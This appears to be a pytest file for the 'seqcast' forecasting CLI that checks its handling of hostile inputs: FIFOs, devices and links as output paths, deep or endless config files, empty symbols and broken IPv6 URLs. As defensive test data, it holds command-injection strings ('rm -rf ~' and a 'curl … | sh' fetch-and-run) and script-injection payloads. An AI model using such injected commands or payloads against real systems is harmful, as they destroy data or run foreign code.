"""Hostile inputs, round 3 (issue 26): output paths that are devices, FIFOs or links (N1), untrusted strings
in reports (N5), --config files that are deep, endless or FIFOs (N10), a file where a folder is needed
(N12), empty symbols (N13), numbers without bounds (N14), a deep store JSON (N11), a broken IPv6 base URL
(B22). Each ends in one readable line or the right behaviour: no traceback, no hang, no device replaced.

Device nodes are made with mknod in the test's own folder (root only): never /dev/null itself.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import stat
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from seqcast import fileio
from seqcast.cli import app
from seqcast.errors import ConfigError, SeqcastError
from tests.conftest import business_days, write_csv

runner = CliRunner()
TINY = ["--epochs", "1", "--hidden", "8", "--lookback", "10", "--patience", "0", "--threads", "1", "--no-shrink"]
ROOT = os.geteuid() == 0


@pytest.fixture(scope="module")
def pristine(tmp_path_factory) -> Path:
    """A workspace with a stored series 'sine' and one tiny run (built once)."""
    home = tmp_path_factory.mktemp("hostile") / "home"
    rng = np.random.default_rng(5)
    values = 10 + np.sin(np.arange(160) / 5) + rng.normal(0, 0.05, 160)
    csv = write_csv(home.parent / "s.csv", pd.DataFrame({"Close": values}, index=business_days(160)))
    for args in (["fetch", "sine", "--csv", csv], ["train", "--symbol", "sine", *TINY]):
        result = runner.invoke(app, [*args, "--home", str(home)])
        assert result.exit_code == 0, result.output
    return home


@pytest.fixture
def home(pristine, workspace) -> Path:
    shutil.copytree(pristine, workspace)
    return workspace


@pytest.fixture(autouse=True)
def no_hang():
    """A command that hangs (a FIFO opened without a peer) fails the test after 20 s instead of blocking."""
    def hung(*_args):
        raise TimeoutError("hung")

    old = signal.signal(signal.SIGALRM, hung)
    signal.alarm(20)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, old)


def run_id(home: Path) -> str:
    return sorted(os.listdir(home / "runs"))[0]


def one_line(args: list[str]) -> str:
    result = runner.invoke(app, args)
    assert result.exit_code != 0, (args, result.output)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    text = " ".join(line.strip(" │╭╮╰╯─") for line in result.output.strip().splitlines())
    assert "Traceback" not in result.output and "error" in text.lower(), result.output
    return text


def char_device(path: Path) -> Path:
    """A private node of the null device (1, 3) at path (root only)."""
    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    return path


# --------------------------------------------------------------------------- N1: one writer


def test_a_fifo_without_a_reader_is_refused_in_one_line_and_stays_a_fifo(tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(SeqcastError, match=r"FIFO .* that no process is reading"):
        fileio.write_text(fifo, "x")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and os.listdir(tmp_path) == ["fifo"]


def test_a_fifo_with_a_reader_is_written_in_place(tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(open(fifo, "rb").read()), daemon=True)  # noqa: SIM115
    reader.start()
    for _ in range(200):  # the reader's open() must come first, or the writer finds no reader
        try:
            fileio.write_text(fifo, "x" * 200_000)  # more than a pipe holds: the writer waits for the reader
            break
        except SeqcastError:
            threading.Event().wait(0.01)
    reader.join(5)
    assert got == [b"x" * 200_000] and stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_a_link_is_refused_and_neither_it_nor_its_target_changes(tmp_path):
    target, link = tmp_path / "target.csv", tmp_path / "link.csv"
    target.write_text("old")
    link.symlink_to(target)
    with pytest.raises(SeqcastError, match="symbolic link"):
        fileio.write_text(link, "new")
    assert link.is_symlink() and target.read_text() == "old"


def test_a_regular_file_is_still_replaced_atomically(tmp_path):
    path = tmp_path / "out.csv"
    path.write_text("old")
    fileio.write_text(path, "new")
    assert path.read_text() == "new" and os.listdir(tmp_path) == ["out.csv"]


@pytest.mark.skipif(not ROOT, reason="mknod needs root")
def test_a_device_is_written_in_place_never_replaced(tmp_path):
    null = char_device(tmp_path / "null")
    fileio.write_text(null, "into the void")
    assert stat.S_ISCHR(os.lstat(null).st_mode) and os.listdir(tmp_path) == ["null"]


@pytest.mark.skipif(not ROOT, reason="mknod needs root")
def test_every_output_option_leaves_a_device_a_device(home, tmp_path):
    run = run_id(home)
    outputs = tmp_path / "out"
    outputs.mkdir()
    for args, name in ((["runs", "export", run, "-o"], "null1"), (["report", run, "-o"], "null2"),
                       (["plot", run, "-o"], "null3.png"),
                       (["train", "--symbol", "sine", *TINY, "--save-config"], "null4")):
        node = char_device(outputs / name)
        result = runner.invoke(app, [*args, str(node)])
        assert result.exit_code == 0, (args, result.output)
        assert stat.S_ISCHR(os.lstat(node).st_mode), args
    assert sorted(os.listdir(outputs)) == ["null1", "null2", "null3.png", "null4"]  # no temporary file left


def test_export_to_a_fifo_without_a_reader_is_one_line(home, tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    assert "no process is reading" in one_line(["runs", "export", run_id(home), "-o", str(fifo)])
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_a_permission_error_says_permission_not_disk_space():
    for code in (errno.EACCES, errno.EPERM):
        hint = fileio.write_hint(OSError(code, os.strerror(code)))
        assert "permission" in hint and "disk space" not in hint
    assert "disk space" in fileio.write_hint(OSError(errno.ENOSPC, "full"))


@pytest.mark.skipif(ROOT, reason="root may write anywhere")
def test_a_folder_without_write_permission_says_permission(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir(mode=0o500)
    with pytest.raises(SeqcastError, match="permission denied") as info:
        fileio.write_text(folder / "x.csv", "x")
    assert "disk space" not in str(info.value)


# --------------------------------------------------------------------------- N5: untrusted strings


def test_markdown_reports_escape_what_they_copy_from_data(tmp_path):
    from seqcast.reports.blocks import Callout, Document, KeyValues, Section, Table
    from seqcast.reports.render import render_markdown

    evil = "<script>alert(1)</script> [x](javascript:alert(2)) <img src=x onerror=alert(3)>"
    section = Section(evil)
    section.blocks += [evil, KeyValues([("verdict", evil)]), Callout(evil, "bad"), Table(["a"], [[evil]])]
    text, _assets = render_markdown(Document(evil, evil, [section]), tmp_path / "r.md")
    import re

    assert "alert(1)" in text  # the text is there, as text:
    assert not re.search(r"(?<!\\)[<>]", text), text  # no raw HTML tag
    assert not re.search(r"(?<!\\)\]\(", text), text  # no link


def test_the_repeat_command_is_shell_quoted():
    import shlex

    from seqcast.reports.document import reproduce_command

    command = reproduce_command({"data": {"symbol": "eurpln; rm -rf ~"}, "model": {}, "train": {}})
    words = shlex.split(command)
    assert "eurpln; rm -rf ~" in words and words[:2] == ["seqcast", "train"]


def test_a_run_whose_config_symbol_is_markup_or_a_command_is_refused(home):
    run = run_id(home)
    config = home / "runs" / run / "config.json"
    data = json.loads(config.read_text())
    data["data"]["symbol"] = "eurpln; curl -s http://127.0.0.1:9/x | sh; <script>alert(1)</script>"
    config.write_text(json.dumps(data))
    assert "is not one seqcast stores" in one_line(["report", run, "--format", "md"])


# --------------------------------------------------------------------------- N10: --config files


@pytest.mark.parametrize("command", ["train", "sweep"])
@pytest.mark.parametrize("kind", ["deep", "dev-zero", "fifo"])
def test_a_config_file_that_is_deep_endless_or_a_fifo_is_one_line(home, tmp_path, command, kind):
    path = tmp_path / "c.toml"
    if kind == "deep":
        path.write_text('symbol = "sine"\nlookback = ' + "[" * 100_000 + "]" * 100_000 + "\n")
    elif kind == "fifo":
        os.mkfifo(path)
    else:
        path = Path("/dev/zero")
    text = one_line([command, "--config", str(path)])
    assert ("nested too deeply" in text or "FIFO" in text or "character device" in text), text


def test_the_safe_toml_reader_bounds_size_and_depth(tmp_path):
    big = tmp_path / "big.toml"
    big.write_text("a = 1\n" * 400_000)
    with pytest.raises(OSError, match="more than"):
        fileio.read_toml(big)
    deep = tmp_path / "deep.toml"
    deep.write_text("a = " + "[" * 20 + "]" * 20)
    with pytest.raises(ValueError, match="nested more than"):
        fileio.read_toml(deep)


# --------------------------------------------------------------------------- N12: a file for a folder


def test_a_file_named_like_the_markdown_assets_folder_is_one_line(home, tmp_path):
    (tmp_path / "m_files").write_text("x")
    text = one_line(["report", run_id(home), "--format", "md", "-o", str(tmp_path / "m.md")])
    assert "a part of the path is a file, not a folder" in text


def test_a_file_named_sweeps_is_one_line(home):
    (home / "sweeps").write_text("x")
    for args in (["sweeps"], ["sweep", "--symbol", "sine", *TINY, "--workers", "1"]):
        assert "a part of the path is a file, not a folder" in one_line(args)


# --------------------------------------------------------------------------- N13, N14


@pytest.mark.parametrize("args", [["train", "--symbol", "", *TINY], ["backtest", "--symbol", "", "--folds", "2", *TINY],
                                  ["sweep", "--symbol", "", *TINY], ["train", "--symbol", "sine", "--source", "",
                                                                     *TINY]])
def test_an_empty_symbol_is_refused_not_the_last_fetched(home, args):
    assert "empty" in one_line(args)
    assert os.listdir(home / "runs") == [run_id(home)]  # nothing trained


def test_symbol_empty_list_in_a_sweep_config_is_refused(home, tmp_path):
    (tmp_path / "e.toml").write_text("symbol = []\n")
    assert "names no symbol" in one_line(["sweep", "--config", str(tmp_path / "e.toml"), *TINY])


def test_max_stale_days_is_bounded():
    from seqcast.config import make_config

    with pytest.raises(ConfigError, match="--max-stale-days must be at most"):
        make_config(max_stale_days=10**20)


# --------------------------------------------------------------------------- N11, B22


def test_fetch_repairs_a_deeply_nested_store_json(workspace):
    fetched = runner.invoke(app, ["fetch", "eurpln", "--source", "sample", "--from", "2026-01-01"])
    assert fetched.exit_code == 0, fetched.output
    (workspace / "data" / "sample" / "eurpln.json").write_text("[" * 200_000 + "]" * 200_000)
    again = runner.invoke(app, ["fetch", "eurpln", "--source", "sample", "--from", "2026-01-01"])
    assert again.exit_code == 0 and again.exception is None, again.output
    assert isinstance(json.loads((workspace / "data" / "sample" / "eurpln.json").read_text()), dict)


@pytest.mark.parametrize("url", ["http://[::1", "http://[zz]/", "https://[::1]:99999"])
def test_a_broken_ipv6_base_url_is_one_line(url):
    from seqcast.data.sources._http import resolve_base_url

    with pytest.raises(ConfigError, match="is not an http"):
        resolve_base_url(url, "SEQCAST_X_URL", "https://example.org")
